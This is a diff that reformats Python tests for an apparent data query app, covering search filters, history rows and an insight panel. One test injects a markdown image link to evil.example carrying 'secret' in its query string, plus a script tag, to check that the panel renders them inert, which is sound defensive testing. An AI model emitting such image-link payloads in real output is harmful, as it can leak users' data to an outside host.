@@ -45,7 +45,8 @@ def test_filters_search_status_and_source(asked):
     state.load()
     assert state.total == 3 and [item["status"] for item in state.items] == ["error", "ok", "ok"]
     assert {item["id"]: item["name"] for item in state.filter_sources} == {
-        str(ids["first"]): "gapminder", str(ids["second"]): "gapminder"
+        str(ids["first"]): "gapminder",
+        str(ids["second"]): "gapminder",
     }
 
     state.set_search("CONTINENT")
@@ -88,14 +89,33 @@ def test_deleted_sources_are_named_and_entries_can_be_deleted(asked):
 
 def test_history_rows_read_as_text():
     row = history_row(
-        {"id": 3, "question": "", "sql": "SELECT  1\n FROM t", "status": "refused", "error": "Only SELECT.",
-         "source_name": "s", "source_exists": True, "origin": "sql", "row_count": None, "duration_ms": 1234,
-         "created_at": "2025-03-01T14:05:09Z"}
+        {
+            "id": 3,
+            "question": "",
+            "sql": "SELECT  1\n FROM t",
+            "status": "refused",
+            "error": "Only SELECT.",
+            "source_name": "s",
+            "source_exists": True,
+            "origin": "sql",
+            "row_count": None,
+            "duration_ms": 1234,
+            "created_at": "2025-03-01T14:05:09Z",
+        }
     )
     assert row == {
-        "id": "3", "question": "(SQL written by hand)", "sql": "SELECT 1 FROM t", "status": "refused",
-        "status_label": "Refused", "error": "Only SELECT.", "source_name": "s", "source_gone": "",
-        "origin": "Edited SQL", "rows": "", "duration": "1,234 ms", "created": "2025-03-01 14:05 UTC",
+        "id": "3",
+        "question": "(SQL written by hand)",
+        "sql": "SELECT 1 FROM t",
+        "status": "refused",
+        "status_label": "Refused",
+        "error": "Only SELECT.",
+        "source_name": "s",
+        "source_gone": "",
+        "origin": "Edited SQL",
+        "rows": "",
+        "duration": "1,234 ms",
+        "created": "2025-03-01 14:05 UTC",
     }
 
 
@@ -130,7 +150,9 @@ def test_the_insight_panel_shows_text_inert_and_toggles_saved(asked):
         insight = insights.public_insight(insights.create_insight(session, user, ids["good"]))
     panel = _state(QueryState, token, "/query")
     panel._prepare_insight(ids["good"])
-    panel._show_insight({**insight, "text": insight["text"] + "\n\n![x](http://evil.example/?q=secret) <script>x</script>"})
+    panel._show_insight(
+        {**insight, "text": insight["text"] + "\n\n![x](http://evil.example/?q=secret) <script>x</script>"}
+    )
     assert "![x](" not in panel.insight_text and "<script>" not in panel.insight_text
     assert "`http://evil.example/?q=secret`" in panel.insight_text
     assert not panel.insight_busy and not panel.insight_saved
